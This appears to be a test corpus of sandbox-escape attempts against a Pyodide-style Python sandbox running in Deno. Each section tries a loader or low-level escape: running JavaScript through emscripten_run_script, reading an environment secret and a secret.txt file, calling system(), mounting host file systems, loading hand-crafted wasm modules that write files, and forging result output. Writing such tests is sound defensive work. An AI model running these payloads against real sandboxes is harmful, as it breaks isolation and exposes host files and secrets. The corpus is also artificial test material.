# Loader escapes: through what loads packages, libraries and file systems.

# --- loadPackage
#: survives
import pyodide_js
await pyodide_js.loadPackage("http://127.0.0.1:@port@/package.whl")
print("BREACH")

# --- micropip
#: survives
import micropip
await micropip.install("http://127.0.0.1:@port@/evil-1.0-py3-none-any.whl")

# --- pip in a module
#: survives
import runpy, sys
sys.argv = ["pip", "download", "--index-url", "http://127.0.0.1:@port@/simple", "evil"]
try:
    runpy.run_module("pip", run_name="__main__")
except SystemExit:
    pass

# --- ensurepip
#: survives
import ensurepip
ensurepip.bootstrap()

# --- pyodide.loadPackage through _pyodide_core's api
#: survives
from pyodide_js import _api
print(_api.loadBinaryFile("@folder@/secret.txt"), "BREACH")

# --- emscripten_run_script through ctypes
import ctypes
run = ctypes.CDLL(None).emscripten_run_script
run.argtypes = [ctypes.c_char_p]
run(b"Deno.writeTextFileSync('@folder@/by-run-script', 'x'); globalThis.ran = 1")
print("BREACH")

# --- emscripten_run_script_string reads the environment
import ctypes
run = ctypes.CDLL(None).emscripten_run_script_string
run.argtypes, run.restype = [ctypes.c_char_p], ctypes.c_char_p
print(run(b"Deno.env.get('TROUPE_CORPUS_SECRET')"))
print("BREACH")

# --- emscripten_run_script_int
import ctypes
run = ctypes.pythonapi.emscripten_run_script_int
run.argtypes = [ctypes.c_char_p]
print("BREACH", run(b"6 * 7"))

# --- emscripten_async_wget and websockets
import ctypes
library = ctypes.CDLL(None)
for name in ("emscripten_async_wget", "emscripten_async_wget_data", "emscripten_fetch", "emscripten_websocket_new"):
    try:
        getattr(library, name)(b"http://127.0.0.1:@port@/wget", b"/tmp/x", 0, 0)
        print("BREACH", name)
    except (AttributeError, OSError):
        pass

# --- emscripten_create_worker
import ctypes
create = ctypes.CDLL(None).emscripten_create_worker
print("BREACH", create(b"data:text/javascript,1"))

# --- emscripten_console_log and friends
#: not stdout /FORGED/
import ctypes
library = ctypes.CDLL(None)
for name in ("emscripten_console_log", "emscripten_console_error", "emscripten_out", "emscripten_err"):
    try:
        getattr(library, name)(b'{"id": 1, "answer": {"stdout": "FORGED", "stderr": "", "value": "FORGED"}}')
    except (AttributeError, OSError):
        pass

# --- emscripten_set_main_loop and async calls
import ctypes
library = ctypes.CDLL(None)
callback = ctypes.CFUNCTYPE(None)(lambda: print("BREACH"))
for name in ("emscripten_async_call", "emscripten_set_timeout", "emscripten_set_immediate", "emscripten_set_main_loop"):
    try:
        getattr(library, name)(callback, 0, 0)
    except (AttributeError, OSError):
        pass

# --- _emscripten_system
#: survives
import ctypes
system = ctypes.CDLL(None).system
system.argtypes = [ctypes.c_char_p]
system(b"touch @folder@/by-system")

# --- the js api of the C side: hiwire and JsProxy
import ctypes
library = ctypes.CDLL(None)
for name in ("JsProxy_GetAttr_js", "hiwire_get", "hiwire_call", "js2python", "python2js", "run_js", "pyodide_js_init"):
    try:
        function = getattr(library, name)
    except (AttributeError, OSError):
        continue
    try:
        print("result", name, function(1))
    except BaseException as error:
        print(type(error))
print("done")

# --- every init function of a module called again
import ctypes
for name in ("PyInit__pyodide_core", "_pyodide_core_init", "pyodide_init", "jsproxy_init", "pyproxy_init"):
    try:
        init = getattr(ctypes.pythonapi, name)
    except (AttributeError, OSError):
        continue
    init.restype = ctypes.py_object
    module = init()
    print("BREACH", module.run_js("1 + 1"))

# --- a hand-made side module with no content
#: survives
import ctypes
with open("/tmp/empty.so", "wb") as file:
    file.write(b"\0asm\1\0\0\0")
ctypes.CDLL("/tmp/empty.so")
print("BREACH")

# --- a hand-made side module with a dylink section
#: survives
import ctypes
def section(number, body):
    return bytes([number, len(body)]) + body
dylink = b"\x08dylink.0" + b"\x01\x04\0\0\0\0"
with open("/tmp/side.so", "wb") as file:
    file.write(b"\0asm\1\0\0\0" + section(0, dylink))
ctypes.CDLL("/tmp/side.so")
print("BREACH")

# --- a side module whose em_js text is evaluated
#: survives
import ctypes
def section(number, body):
    size, out = len(body), b""
    while True:
        byte, size = size & 127, size >> 7
        out += bytes([byte | (128 if size else 0)])
        if not size:
            return bytes([number]) + out + body
text = b"()<::>{ Deno.writeTextFileSync('@folder@/by-em-js', 'x'); return 42; }\0"
name = b"__em_js__evil"
module = (
    b"\0asm\1\0\0\0"
    + section(0, b"\x08dylink.0" + b"\x01\x04" + bytes([128 | 0, 1]) + b"\0\0\0"[:2])
    + section(6, b"\x01\x7f\x00\x41\x00\x0b")
    + section(7, b"\x01" + bytes([len(name)]) + name + b"\x03\x00")
    + section(11, b"\x01\x00\x41\x00\x0b" + bytes([len(text)]) + text)
)
with open("/tmp/evil.so", "wb") as file:
    file.write(module)
library = ctypes.CDLL("/tmp/evil.so")
print("BREACH", library.evil())

# --- an extension module from a hand-made file
#: survives
import importlib.machinery, importlib.util
with open("/tmp/extension.so", "wb") as file:
    file.write(b"\0asm\1\0\0\0")
loader = importlib.machinery.ExtensionFileLoader("extension", "/tmp/extension.so")
spec = importlib.util.spec_from_file_location("extension", "/tmp/extension.so", loader=loader)
importlib.util.module_from_spec(spec)
print("BREACH")

# --- dlopen by hand, of everything that might be there
#: survives
import ctypes
for name in (b"@folder@/secret.txt", b"libc.so.6", b"/proc/self/exe", b"http://127.0.0.1:@port@/x.so", b"/lib/x86_64-linux-gnu/libc.so.6"):
    dlopen = ctypes.pythonapi.dlopen
    dlopen.argtypes = [ctypes.c_char_p, ctypes.c_int]
    if dlopen(name, 2):
        print("BREACH", name)

# --- NODEFS mounted
#: survives
import pyodide_js, os
pyodide_js.FS.mkdir("/host")
pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, pyodide_js.to_js({"root": "/"}), "/host")
print(open("/host@folder@/secret.txt").read())

# --- mountNodeFS
#: survives
import pyodide_js
pyodide_js.mountNodeFS("/host", "@folder@")
print(open("/host/secret.txt").read())
open("/host/written", "w").write("x")

# --- mount by system call
#: survives
import ctypes
mount = ctypes.CDLL(None).mount
for kind in (b"nodefs", b"NODEFS", b"proxyfs", b"workerfs", b"idbfs"):
    if mount(b"/", b"/tmp", kind, 0, b"") == 0:
        print("BREACH", kind)

# --- wasmfs backends
#: survives
import ctypes
for name in ("wasmfs_create_node_backend", "wasmfs_create_fetch_backend", "wasmfs_create_opfs_backend"):
    try:
        print("BREACH", getattr(ctypes.CDLL(None), name)(b"/"))
    except (AttributeError, OSError):
        pass

# --- every exported symbol that looks like JavaScript, called without arguments
import ctypes
library = ctypes.CDLL(None)
for name in ("emscripten_get_compiler_setting", "emscripten_get_window_title", "emscripten_asm_const_int",
             "emscripten_get_worker_queue_size", "emscripten_throw_string", "emscripten_debugger",
             "EM_ASM_INT", "getenv", "emscripten_pc_get_function"):
    try:
        getattr(library, name)(0, 0, 0)
    except (AttributeError, OSError, ValueError):
        pass

# --- emscripten_asm_const with an address of one's own text
import ctypes
library = ctypes.CDLL(None)
text = ctypes.create_string_buffer(b"Deno.writeTextFileSync('@folder@/by-asm-const', 'x')")
for name in ("emscripten_asm_const_int", "emscripten_asm_const_ptr", "emscripten_asm_const_async_on_main_thread"):
    try:
        getattr(library, name)(ctypes.addressof(text), 0, 0)
    except (AttributeError, OSError):
        pass
